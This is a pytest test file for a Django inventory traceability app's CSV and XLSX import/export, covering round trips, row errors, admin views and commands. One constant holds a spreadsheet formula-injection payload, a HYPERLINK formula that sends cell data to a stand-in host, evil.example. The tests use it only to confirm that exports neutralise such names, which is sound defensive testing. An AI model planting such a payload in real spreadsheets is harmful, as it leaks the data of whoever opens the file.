"""CSV and XLSX import and export of products, lots, serial units, parties and sites."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import openpyxl
import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from inventory import services
from inventory.models import (
    Genealogy,
    Item,
    Lot,
    Party,
    Product,
    SerialUnit,
    Site,
    TraceEvent,
)
from inventory.resources import (
    FORMATS,
    RESOURCES,
    LotResource,
    PartyResource,
    ProductResource,
    SerialUnitResource,
    SiteResource,
)

from .factories import (
    PartyFactory,
    ProductFactory,
    SerialProductFactory,
    SiteFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

MODELS = {
    "products": Product,
    "lots": Lot,
    "serial-units": SerialUnit,
    "parties": Party,
    "sites": Site,
}
# A name as it can arrive in a partner's EPCIS master data: a live formula would send the sheet's
# cells away when the file is opened.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
USER_REQUIRED = "Error: the following arguments are required: --user"
NO_SUCH_USER = "There is no user {}."


@pytest.fixture
def records(admin_user):
    """Master data as the services make it: a supplier's lot, a product lot, installed units."""
    supplier = PartyFactory(
        name="Green Valley Farms", gln="5901234123457", is_supplier=True, is_customer=False
    )
    customer = PartyFactory(name="Corner Store")
    plant = SiteFactory(code="plant", name="Main plant")
    flour = services.lot_create(
        product=ProductFactory(sku="FLOUR", gtin="05901234123457", shelf_life_days=90),
        code="L-2041",
        quantity=Decimal("500"),
        supplier=supplier,
        supplier_lot_code="FARM-88",
        site=plant,
        produced_on=date(2026, 3, 1),
        acting_user=admin_user,
    )
    services.lot_hold(lot=flour, reason="Supplier notice SN-88", acting_user=admin_user)
    scooter_product = SerialProductFactory(sku="SCOOTER")
    build = services.lot_create(
        product=scooter_product,
        code="B-7",
        quantity=Decimal("2"),
        site=plant,
        produced_on=date(2026, 3, 2),
        acting_user=admin_user,
    )
    scooter = services.serial_unit_create(
        product=scooter_product, serial="SC-0001", lot=build, site=plant, acting_user=admin_user
    )
    battery = services.serial_unit_create(
        product=SerialProductFactory(sku="BATTERY"),
        serial="BT-0001",
        site=plant,
        acting_user=admin_user,
    )
    services.serial_unit_install(component=battery, assembly=scooter, acting_user=admin_user)
    services.shipment_create(
        serial_units=[scooter],
        from_site=plant,
        to_party=customer,
        shipped_at=date(2026, 3, 10),
        acting_user=admin_user,
    )
    return {
        "supplier": supplier,
        "customer": customer,
        "plant": plant,
        "flour": flour,
        "build": build,
        "scooter": scooter,
        "battery": battery,
    }


def as_csv(resource_class) -> str:
    return FORMATS["csv"]().export_data(resource_class().export())


def as_xlsx(resource_class) -> bytes:
    return FORMATS["xlsx"]().export_data(resource_class().export(force_native_type=True))


def dataset(content, file_format="csv"):
    return FORMATS[file_format]().create_dataset(content)


def import_file(resource_class, content, user, *, file_format="csv", dry_run=False):
    return resource_class().import_data(
        dataset(content, file_format), dry_run=dry_run, user=user, file_name=f"test.{file_format}"
    )


def errors_of(result) -> list[str]:
    return [str(error) for error in result.sheet_errors]


def history_rows() -> int:
    return sum(model.history.count() for model in (Product, Lot, SerialUnit, Party, Site))


def snapshot() -> dict:
    """Counts a write would change: records, their history, graph nodes, events, genealogy."""
    return {
        **{name: model.objects.count() for name, model in MODELS.items()},
        "history": history_rows(),
        "items": Item.objects.count(),
        "events": TraceEvent.objects.count(),
        "genealogy": Genealogy.objects.count(),
    }


# --- Export and round trip ---------------------------------------------------------------------


def test_lot_export_has_readable_columns_and_no_database_ids(records):
    rows = dataset(as_csv(LotResource)).dict
    assert rows[0] == {
        "Product SKU": "FLOUR",
        "Lot code": "L-2041",
        "Quantity": "500",
        "Unit": "kg",
        "Production or receipt date": "2026-03-01",
        "Expiry date": "2026-05-30",
        "Supplier": "Green Valley Farms",
        "Supplier's lot code": "FARM-88",
        "Site of origin": "plant",
        "Quality status": "on hold",
    }


def test_serial_unit_export_names_its_lot_holder_and_assembly(records):
    rows = {row["Serial number"]: row for row in dataset(as_csv(SerialUnitResource)).dict}
    assert rows["SC-0001"] == {
        "Product SKU": "SCOOTER",
        "Serial number": "SC-0001",
        "Production lot": "B-7",
        "Production date": "",
        "Status": "shipped",
        "Held at site": "",
        "Held by party": "Corner Store",
        "Ship date": "2026-03-10",
        "Warranty end": "2028-03-10",
        "Warranty end set by hand": "no",
        "Installed in": "",
    }
    assert rows["BT-0001"]["Installed in"] == "SCOOTER serial SC-0001"


def test_party_shared_by_two_names_is_exported_by_its_gln(records):
    PartyFactory(name="Green Valley Farms", gln="4012345000009")
    rows = dataset(as_csv(LotResource)).dict
    assert rows[0]["Supplier"] == "5901234123457"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("name", RESOURCES)
def test_exported_file_imports_back_unchanged(records, admin_user, name, file_format):
    resource_class = RESOURCES[name]
    content = as_csv(resource_class) if file_format == "csv" else as_xlsx(resource_class)
    before = snapshot()

    result = import_file(resource_class, content, admin_user, file_format=file_format)

    assert result.sheet_errors == []
    assert result.totals["skip"] == MODELS[name].objects.count() > 0
    assert result.totals["new"] == result.totals["update"] == 0
    assert snapshot() == before


# --- Creating and updating ---------------------------------------------------------------------


def test_import_creates_products_with_the_user_and_file_in_their_history(admin_user):
    result = import_file(
        ProductResource,
        "SKU,Name,GTIN,Tracking,Unit of measure,Shelf life (days),Active\n"
        "SALAD-1,Garden salad,5901234123457,by lot,kg,12,yes\n"
        "DRILL-9,Cordless drill,,by serial number,,,\n",
        admin_user,
    )

    assert result.sheet_errors == []
    assert result.totals["new"] == 2
    salad, drill = Product.objects.get(sku="SALAD-1"), Product.objects.get(sku="DRILL-9")
    assert (salad.gtin, salad.unit, salad.shelf_life_days) == ("05901234123457", "KGM", 12)
    assert (drill.tracking, drill.unit, drill.active) == ("serial", "EA", True)
    created = salad.history.get()
    assert (created.history_type, created.history_user, created.history_change_reason) == (
        "+",
        admin_user,
        "Imported from test.csv",
    )


def test_import_updates_only_what_changed_and_history_keeps_user_and_reason(records):
    editor = UserFactory(username="editor", is_superuser=True)
    flour = Product.objects.get(sku="FLOUR")

    result = import_file(
        ProductResource, "SKU,Name,Shelf life (days)\nFLOUR,Bread flour T65,120\n", editor
    )

    assert result.totals["update"] == 1
    flour.refresh_from_db()
    assert (flour.name, flour.shelf_life_days, flour.gtin) == (
        "Bread flour T65",
        120,
        "05901234123457",
    )
    latest = flour.history.first()
    assert (latest.history_user, latest.history_change_reason) == (
        editor,
        "Imported from test.csv",
    )
    changes = {c.field for c in latest.diff_against(latest.prev_record).changes}
    assert changes == {"name", "shelf_life_days"}


def test_imported_lot_is_received_through_the_service_with_its_event(records, admin_user):
    result = import_file(
        LotResource,
        "Product SKU,Lot code,Quantity,Production or receipt date,Supplier,Site of origin\n"
        "FLOUR,L-2050,250.5,2026-04-01,5901234123457,plant\n",
        admin_user,
    )

    assert result.sheet_errors == []
    lot = Lot.objects.get(code="L-2050")
    # The product's unit and shelf life fill what the row leaves out, as in the admin.
    assert (lot.quantity, lot.unit, lot.expires_on, lot.status) == (
        Decimal("250.5"),
        "KGM",
        date(2026, 6, 30),
        Lot.Status.RELEASED,
    )
    assert lot.supplier == records["supplier"]
    event = TraceEvent.objects.get(lines__item=lot.pk)
    assert (event.event_type, event.source_party, event.recorded_by) == (
        TraceEvent.Type.RECEIVE,
        records["supplier"],
        admin_user,
    )


def test_imported_unit_is_commissioned_in_its_production_lot(records, admin_user):
    result = import_file(
        SerialUnitResource,
        "Product SKU,Serial number,Production lot,Production date,Held at site\n"
        "SCOOTER,SC-0002,B-7,2026-03-03,plant\n",
        admin_user,
    )

    assert result.sheet_errors == []
    unit = SerialUnit.objects.get(serial="SC-0002")
    assert (unit.lot, unit.holder_site, unit.status) == (
        records["build"],
        records["plant"],
        SerialUnit.Status.IN_STOCK,
    )
    assert Genealogy.objects.filter(
        parent=records["build"].pk, child=unit.pk, kind=Genealogy.Kind.PRODUCTION_LOT
    ).exists()
    assert TraceEvent.objects.filter(
        lines__item=unit.pk, event_type=TraceEvent.Type.PRODUCE, recorded_by=admin_user
    ).exists()


def test_party_row_with_a_known_gln_renames_that_party(records, admin_user):
    result = import_file(
        PartyResource,
        "Name,GLN,Supplier\nGreen Valley Farms Ltd,5901234123457,yes\n",
        admin_user,
    )

    assert result.totals["update"] == 1
    records["supplier"].refresh_from_db()
    assert records["supplier"].name == "Green Valley Farms Ltd"
    assert Party.objects.count() == 3


def test_empty_gln_cell_keeps_the_party_gln(records, admin_user):
    result = import_file(
        PartyResource, "Name,GLN,Phone\nGreen Valley Farms,,+1 555 0199\n", admin_user
    )

    assert result.totals["update"] == 1
    records["supplier"].refresh_from_db()
    assert (records["supplier"].gln, records["supplier"].phone) == ("5901234123457", "+1 555 0199")


def test_site_owner_is_found_by_name(records, admin_user):
    result = import_file(
        SiteResource,
        "Code,Name,Kind,Owner\ncorner-1,Corner Store shop,store,Corner Store\n",
        admin_user,
    )

    assert result.sheet_errors == []
    site = Site.objects.get(code="corner-1")
    assert (site.party, site.kind) == (records["customer"], Site.Kind.STORE)


def test_headings_may_differ_in_case_or_be_field_names(admin_user):
    result = import_file(ProductResource, "sku,NAME,shelf_life_days\nS-1,Salt,365\n", admin_user)

    assert result.sheet_errors == []
    assert Product.objects.get(sku="S-1").shelf_life_days == 365


# --- Row errors --------------------------------------------------------------------------------

ROW_ERRORS = {
    "unknown product": (
        LotResource,
        "Product SKU,Lot code,Quantity\nNOPE,L-1,10\n",
        ["Row 2, Product SKU: No product has SKU NOPE."],
    ),
    "bad GTIN check digit": (
        ProductResource,
        "SKU,Name,GTIN\nS-1,Salt,5901234123458\n",
        ["Row 2, GTIN: GTIN 5901234123458 has a wrong check digit (expected 7)."],
    ),
    "bad date": (
        LotResource,
        "Product SKU,Lot code,Quantity,Production or receipt date\nFLOUR,L-1,10,03/01/2026\n",
        [
            "Row 2, Production or receipt date: 03/01/2026 is not a date; write dates as "
            "YYYY-MM-DD, e.g. 2026-03-01."
        ],
    ),
    "same record twice": (
        LotResource,
        "Product SKU,Lot code,Quantity\nFLOUR,L-1,10\nFLOUR,L-2,10\nFLOUR,L-1,20\n",
        [
            "Row 4, Lot code: Row 2 has the same Product SKU and Lot code; "
            "a record may appear only once."
        ],
    ),
    "required, not a number, not yes or no, not a choice": (
        ProductResource,
        "SKU,Name,Tracking,Shelf life (days),Active\nS-1,,sideways,ten,maybe\n",
        [
            "Row 2, Name: A value is required.",
            "Row 2, Tracking: sideways is not one of: by lot, by serial number.",
            "Row 2, Shelf life (days): ten is not a whole number.",
            "Row 2, Active: Write yes or no, not maybe.",
        ],
    ),
    "unknown site and party": (
        LotResource,
        "Product SKU,Lot code,Quantity,Supplier,Site of origin\nFLOUR,L-1,1,Nobody Inc,moon\n",
        [
            "Row 2, Supplier: No party is named Nobody Inc.",
            "Row 2, Site of origin: No site has code moon.",
        ],
    ),
    "lot status": (
        LotResource,
        "Product SKU,Lot code,Quality status\nFLOUR,L-2041,released\n",
        [
            "Row 2, Quality status: This row says released but it is on hold. "
            "Change a status with its own action, which asks for a reason."
        ],
    ),
    "status of a new lot": (
        LotResource,
        "Product SKU,Lot code,Quantity,Quality status\nFLOUR,L-9,5,quarantined\n",
        [
            "Row 2, Quality status: This row says quarantined but it is released. "
            "Change a status with its own action, which asks for a reason."
        ],
    ),
    "installed in": (
        SerialUnitResource,
        "Product SKU,Serial number,Installed in\nBATTERY,BT-0001,\nSCOOTER,SC-0001,BATTERY "
        "serial BT-0001\n",
        [
            "Row 3, Installed in: This row says BATTERY serial BT-0001 but it is not installed. "
            "Install or remove a component with its own action."
        ],
    ),
    "production lot cannot change": (
        SerialUnitResource,
        "Product SKU,Serial number,Production lot\nSCOOTER,SC-0001,\n",
        [
            "Row 2, Production lot: A unit's production lot is part of its genealogy and "
            "cannot be changed."
        ],
    ),
    "unknown production lot": (
        SerialUnitResource,
        "Product SKU,Serial number,Production lot\nSCOOTER,SC-0009,B-99\n",
        ["Row 2, Production lot: SCOOTER has no lot B-99."],
    ),
    "serial unit of a lot-tracked product": (
        SerialUnitResource,
        "Product SKU,Serial number\nFLOUR,F-1\n",
        ["Row 2, Product SKU: FLOUR · Product 0 is tracked by lot; it has no serial units."],
    ),
    "warranty end the model would replace": (
        SerialUnitResource,
        "Product SKU,Serial number,Warranty end\nSCOOTER,SC-0001,2030-01-01\n",
        [
            "Row 2, Warranty end: The ship date and the product's warranty give 2028-03-10; "
            "to keep 2030-01-01, write yes under Warranty end set by hand."
        ],
    ),
    "two parties of one name": (
        SiteResource,
        "Code,Name,Owner\nshop-2,Shop,Twin\n",
        ["Row 2, Owner: Several parties are named Twin; write the party's GLN instead."],
    ),
    "expiry before production": (
        LotResource,
        "Product SKU,Lot code,Quantity,Production or receipt date,Expiry date\n"
        "FLOUR,L-3,1,2026-03-01,2026-02-01\n",
        ["Row 2: A lot cannot expire before it was produced."],
    ),
    "unknown and missing columns": (
        LotResource,
        "Lot code,Quantty\nL-1,5\n",
        [
            "Row 1: Unknown column Quantty; the columns for lots are: Product SKU, Lot code, "
            "Quantity, Unit, Production or receipt date, Expiry date, Supplier, Supplier's lot "
            "code, Site of origin, Quality status.",
            "Row 1: The file needs a Product SKU column to find each row's record.",
        ],
    ),
    "no rows": (
        ProductResource,
        "SKU,Name\n",
        ["File: The file has headings but no rows to import."],
    ),
}


@pytest.mark.parametrize("case", ROW_ERRORS)
def test_bad_rows_are_reported_by_row_and_column(records, admin_user, case):
    PartyFactory.create_batch(2, name="Twin")
    Product.objects.filter(sku="FLOUR").update(name="Product 0")
    resource_class, content, expected = ROW_ERRORS[case]
    before = snapshot()

    result = import_file(resource_class, content, admin_user)

    assert errors_of(result) == expected
    assert snapshot() == before


def test_one_bad_row_writes_nothing_at_all(records, admin_user):
    before = snapshot()
    flour_history = records["flour"].history.count()

    result = import_file(
        LotResource,
        "Product SKU,Lot code,Quantity,Supplier's lot code\n"
        "FLOUR,L-2041,500,FARM-89\n"  # an update
        "FLOUR,L-3000,10,\n"  # a new lot, with its receipt event
        "FLOUR,L-3001,-1,\n",  # the one bad row
        admin_user,
    )

    assert errors_of(result) == [
        "Row 4, Quantity: Ensure this value is greater than or equal to 0."
    ]
    assert snapshot() == before
    records["flour"].refresh_from_db()
    assert records["flour"].supplier_lot_code == "FARM-88"
    assert records["flour"].history.count() == flour_history
    assert not Lot.objects.filter(code="L-3000").exists()


def test_dry_run_reports_every_row_and_writes_nothing(records, admin_user):
    before = snapshot()

    result = import_file(
        ProductResource,
        "SKU,Name\nFLOUR,Bread flour\nSALT,Salt\nSCOOTER,Product 2\n",
        admin_user,
        dry_run=True,
    )

    assert [row.import_type for row in result.rows] == ["update", "new", "update"]
    assert snapshot() == before
    assert not Product.objects.filter(sku="SALT").exists()


def test_import_needs_a_user_for_the_audit_trail():
    with pytest.raises(ValueError, match="audit trail"):
        ProductResource().import_data(dataset("SKU,Name\nS-1,Salt\n"))


# --- XLSX as people type it -----------------------------------------------------------------------


def workbook(*rows) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.active.append([None] * len(rows[0]))  # a formatted but empty row at the end
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def test_xlsx_cells_typed_as_numbers_dates_and_booleans(records, admin_user):
    content = workbook(
        ["SKU", "Name", "GTIN", "Shelf life (days)", "On the FDA Food Traceability List"],
        ["LEAF-1", "Romaine", 4012345000009, 12.0, True],
    )

    result = import_file(ProductResource, content, admin_user, file_format="xlsx")

    assert result.sheet_errors == []
    leaf = Product.objects.get(sku="LEAF-1")
    assert (leaf.gtin, leaf.shelf_life_days, leaf.on_food_traceability_list) == (
        "04012345000009",
        12,
        True,
    )


def test_xlsx_dates_and_decimal_quantities(records, admin_user):
    content = workbook(
        ["Product SKU", "Lot code", "Quantity", "Production or receipt date"],
        ["FLOUR", "L-77", 0.1, datetime(2026, 4, 2)],
    )

    result = import_file(LotResource, content, admin_user, file_format="xlsx")

    assert result.sheet_errors == []
    lot = Lot.objects.get(code="L-77")
    assert (lot.quantity, lot.produced_on) == (Decimal("0.1"), date(2026, 4, 2))


# --- Admin -------------------------------------------------------------------------------------

ADMIN_MODELS = ["product", "lot", "serialunit", "party", "site"]


def _admin_url(model_name, view, *args):
    return reverse(f"admin:inventory_{model_name}_{view}", args=args)


@pytest.mark.parametrize("model_name", ADMIN_MODELS)
def test_change_list_has_import_and_export_and_change_form_keeps_history(
    client, admin_user, records, model_name
):
    client.force_login(admin_user)
    model = {"product": Product, "lot": Lot, "serialunit": SerialUnit}.get(model_name)
    model = model or {"party": Party, "site": Site}[model_name]
    obj = model.objects.order_by("pk").first()

    change_list = client.get(_admin_url(model_name, "changelist")).content.decode()
    change_form = client.get(_admin_url(model_name, "change", obj.pk)).content.decode()

    assert f"href='{_admin_url(model_name, 'import')}' class=\"import_link\"" in change_list
    assert f'href="{_admin_url(model_name, "export")}?" class="export_link"' in change_list
    assert f'href="{_admin_url(model_name, "add")}" class="addlink"' in change_list
    assert f'href="{_admin_url(model_name, "history", obj.pk)}" class="historylink"' in change_form


def _upload(client, model_name, content, name="products.csv", file_format="0"):
    return client.post(
        _admin_url(model_name, "import"),
        {
            "resource": "0",
            "format": file_format,
            "import_file": SimpleUploadedFile(name, content.encode()),
        },
    )


def test_admin_import_previews_then_imports_on_confirmation(client, admin_user, records):
    client.force_login(admin_user)

    preview = _upload(client, "product", "SKU,Name\nFLOUR,Bread flour\nSALT,Sea salt\n")

    assert preview.status_code == 200
    assert preview.context["confirm_form"] is not None
    assert [row.import_type for row in preview.context["result"].rows] == ["update", "new"]
    assert not Product.objects.filter(sku="SALT").exists()

    confirmed = client.post(
        _admin_url("product", "process_import"), preview.context["confirm_form"].initial
    )

    assert confirmed.status_code == 302
    assert Product.objects.get(sku="SALT").history.get().history_user == admin_user
    assert Product.objects.get(sku="FLOUR").name == "Bread flour"
    assert [str(m) for m in get_messages(confirmed.wsgi_request)] == [
        "Imported products.csv: 1 new, 1 updated and 0 unchanged products."
    ]
    assert LogEntry.objects.filter(user=admin_user).count() == 2


def test_admin_import_preview_lists_row_errors_and_offers_no_confirmation(
    client, admin_user, records
):
    client.force_login(admin_user)

    preview = _upload(client, "lot", "Product SKU,Lot code,Quantity\nNOPE,L-1,10\n", "lots.csv")

    assert preview.status_code == 200
    assert "confirm_form" not in preview.context
    page = preview.content.decode()
    assert "Nothing can be imported: the file has 1 error" in page
    assert "<td>2</td>" in page
    assert "<td>Product SKU</td>" in page
    assert "No product has SKU NOPE." in page


def test_admin_confirmation_writes_nothing_if_a_row_became_invalid(client, admin_user, records):
    client.force_login(admin_user)
    preview = _upload(client, "product", "SKU,Name,GTIN\nSALT,Sea salt,4012345000009\n")
    ProductFactory(sku="OTHER", gtin="04012345000009")

    confirmed = client.post(
        _admin_url("product", "process_import"), preview.context["confirm_form"].initial
    )

    assert confirmed.status_code == 200
    assert "Product with this GTIN already exists." in confirmed.content.decode()
    assert not Product.objects.filter(sku="SALT").exists()
    assert not LogEntry.objects.exists()


def test_staff_without_add_permission_cannot_import(client, staff, records):
    staff.is_staff = True
    staff.save()
    client.force_login(staff)

    change_list = client.get(_admin_url("lot", "changelist")).content.decode()

    assert _admin_url("lot", "import") not in change_list
    assert _admin_url("lot", "export") in change_list
    assert client.get(_admin_url("lot", "import")).status_code == 403
    content = "Product SKU,Lot code,Quantity\nFLOUR,L-9,1\n"
    assert _upload(client, "lot", content, "lots.csv").status_code == 403
    assert not Lot.objects.filter(code="L-9").exists()


def test_administrators_role_may_import_and_export(client, administrator, records):
    client.force_login(administrator)

    preview = _upload(client, "site", "Code,Name,Owner\nshop,Shop,Corner Store\n", "sites.csv")

    assert preview.context["confirm_form"] is not None


def test_admin_export_offers_columns_by_their_headings(client, admin_user, records):
    client.force_login(admin_user)

    page = client.get(_admin_url("lot", "export")).content.decode()

    assert "Production or receipt date</label>" in page
    assert "Produced On" not in page


def test_admin_export_downloads_a_file_that_imports_back(client, admin_user, records):
    client.force_login(admin_user)

    columns = {f"lotresource_{name}": "on" for name in LotResource().get_export_order()}
    response = client.post(_admin_url("lot", "export"), {"resource": "0", "format": "0", **columns})

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="Lot-')
    content = response.content.decode("utf-8-sig")
    assert content.startswith("Product SKU,Lot code,Quantity,Unit,")
    result = import_file(LotResource, content, admin_user)
    assert result.totals["skip"] == Lot.objects.count()


def _admin_xlsx(client, model_name, resource_class):
    prefix = resource_class.__name__.lower()
    columns = {f"{prefix}_{name}": "on" for name in resource_class().get_export_order()}
    response = client.post(
        _admin_url(model_name, "export"), {"resource": "0", "format": "1", **columns}
    )
    assert response["Content-Disposition"].endswith('.xlsx"')
    return openpyxl.load_workbook(BytesIO(response.content)).active


def test_admin_xlsx_export_keeps_a_name_that_looks_like_a_formula_as_text(
    client, admin_user, records
):
    PartyFactory(name=FORMULA_NAME)
    client.force_login(admin_user)

    sheet = _admin_xlsx(client, "party", PartyResource)

    cell = next(row[0] for row in sheet.iter_rows() if row[0].value == FORMULA_NAME)
    assert cell.data_type == "s"


def test_admin_xlsx_export_keeps_quantities_as_numbers(client, admin_user, records):
    client.force_login(admin_user)

    sheet = _admin_xlsx(client, "lot", LotResource)

    rows = {row[1].value: row[2] for row in sheet.iter_rows(min_row=2)}
    assert (rows["L-2041"].value, rows["L-2041"].data_type) == (500, "n")


# --- Commands ----------------------------------------------------------------------------------


def run(*args):
    out, err = StringIO(), StringIO()
    try:
        call_command(*args, stdout=out, stderr=err)
    except CommandError as exc:
        return exc.returncode, out.getvalue(), err.getvalue() + str(exc)
    return 0, out.getvalue(), err.getvalue()


@pytest.fixture
def sheet(tmp_path):
    def write(text, name="products.csv"):
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        return str(path)

    return write


def test_import_records_prints_each_row(records, admin_user, sheet):
    path = sheet("SKU,Name\nFLOUR,Bread flour\nSALT,Sea salt\nSCOOTER,Product 2\n")
    Product.objects.filter(sku="SCOOTER").update(name="Product 2")

    status, out, err = run("import_records", "products", path, "--user", admin_user.username)

    assert (status, err) == (0, "")
    assert out.splitlines() == [
        "Row 2: updated FLOUR · Bread flour",
        "Row 3: new SALT · Sea salt",
        "Row 4: unchanged SCOOTER · Product 2",
        f"{path}: imported 1 new, 1 updated, 1 unchanged products as admin.",
    ]
    assert Product.objects.get(sku="SALT").history.get().history_user == admin_user


def test_import_records_prints_row_errors_exits_1_and_writes_nothing(records, sheet):
    path = sheet("SKU,Name,GTIN\nSALT,Salt,\nS-2,,5901234123458\n")
    before = snapshot()

    status, out, err = run("import_records", "products", path, "--user", "admin")

    assert status == 1
    assert out == ""
    assert err.splitlines() == [
        "Row 3, Name: A value is required.",
        "Row 3, GTIN: GTIN 5901234123458 has a wrong check digit (expected 7).",
        f"{path}: nothing imported; 2 errors.",
    ]
    assert snapshot() == before


def test_import_records_dry_run_writes_nothing(records, sheet):
    path = sheet("SKU,Name\nSALT,Sea salt\n")

    status, out, _err = run("import_records", "products", path, "--dry-run", "--user", "admin")

    assert status == 0
    assert out.splitlines()[-1] == (
        f"{path}: dry run, nothing written; would import 1 new, 0 updated, 0 unchanged products."
    )
    assert not Product.objects.filter(sku="SALT").exists()


def test_import_records_needs_the_user_who_imports(admin_user, sheet):
    status, out, err = run("import_records", "products", sheet("SKU,Name\nSALT,Salt\n"))

    assert (status, out, err) == (1, "", USER_REQUIRED)
    assert not Product.objects.filter(sku="SALT").exists()


def test_import_records_refuses_an_unknown_user(admin_user, sheet):
    status, _out, err = run(
        "import_records", "products", sheet("SKU,Name\nSALT,Salt\n"), "--user", "nobody"
    )

    assert (status, err) == (1, NO_SUCH_USER.format("nobody"))
    assert not Product.objects.filter(sku="SALT").exists()


def test_import_records_refuses_a_user_who_may_not_import(staff, sheet):
    status, _out, err = run(
        "import_records", "lots", sheet("Product SKU,Lot code\n"), "--user", "staff"
    )

    assert (status, err) == (
        1,
        "User staff may not import lots: that needs permission to add and to change them.",
    )


def test_import_records_says_when_a_file_cannot_be_read(admin_user, sheet):
    path = sheet("SKU,Name\nSALT,Salt\n", name="products.xlsx")

    status, _out, err = run("import_records", "products", path, "--user", "admin")

    assert (status, err) == (1, "products.xlsx cannot be read as XLSX (BadZipFile).")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_records_writes_a_file_import_records_reads_back(
    records, admin_user, tmp_path, file_format
):
    path = str(tmp_path / f"lots.{file_format}")

    status, out, _err = run("export_records", "lots", "--output", path)
    assert (status, out) == (0, f"Exported 2 lots to {path}.\n")

    status, out, err = run("import_records", "lots", path, "--user", "admin")
    assert (status, err) == (0, "")
    assert out.splitlines()[-1] == (
        f"{path}: imported 0 new, 0 updated, 2 unchanged lots as admin."
    )


def test_exported_xlsx_keeps_a_name_that_looks_like_a_formula_as_text(records, tmp_path):
    PartyFactory(name=FORMULA_NAME)
    path = tmp_path / "parties.xlsx"

    run("export_records", "parties", "--output", str(path))

    sheet = openpyxl.load_workbook(path).active
    cell = next(row[0] for row in sheet.iter_rows() if row[0].value == FORMULA_NAME)
    assert cell.data_type == "s"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_name_that_looks_like_a_formula_imports_back_unchanged(
    records, admin_user, tmp_path, file_format
):
    party = PartyFactory(name=FORMULA_NAME)
    path = str(tmp_path / f"parties.{file_format}")
    run("export_records", "parties", "--output", path)

    status, out, err = run("import_records", "parties", path, "--user", "admin")

    assert (status, err) == (0, "")
    assert out.splitlines()[-1] == (
        f"{path}: imported 0 new, 0 updated, {Party.objects.count()} unchanged parties as admin."
    )
    party.refresh_from_db()
    assert party.name == FORMULA_NAME


def test_exported_csv_neutralises_a_name_that_looks_like_a_formula(records, tmp_path):
    PartyFactory(name=FORMULA_NAME)
    path = tmp_path / "parties.csv"

    run("export_records", "parties", "--output", str(path))

    raw = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")))
    names = [row["Name"] for row in raw]
    assert "'" + FORMULA_NAME in names
    assert FORMULA_NAME not in names


def test_exported_csv_starts_with_a_byte_order_mark_for_excel(records, tmp_path):
    path = tmp_path / "parties.csv"

    run("export_records", "parties", "--output", str(path))

    assert path.read_bytes().startswith(b"\xef\xbb\xbfName,GLN,")


def test_a_spreadsheet_over_the_size_limit_is_refused_before_it_is_read(
    client, admin_user, records, monkeypatch
):
    from inventory import admin as inventory_admin

    monkeypatch.setattr(inventory_admin, "SPREADSHEET_MAX_UPLOAD_SIZE", 40)
    client.force_login(admin_user)

    answer = _upload(client, "product", "SKU,Name\nSALT,Sea salt\nPEPPER,Black pepper\n")

    assert answer.status_code == 200
    assert answer.context["form"].errors["import_file"] == [
        "products.csv is 43\xa0bytes; a spreadsheet uploaded here may be up to 40\xa0bytes. "
        "Import larger files with: manage.py import_records"
    ]
    assert not Product.objects.filter(sku="SALT").exists()
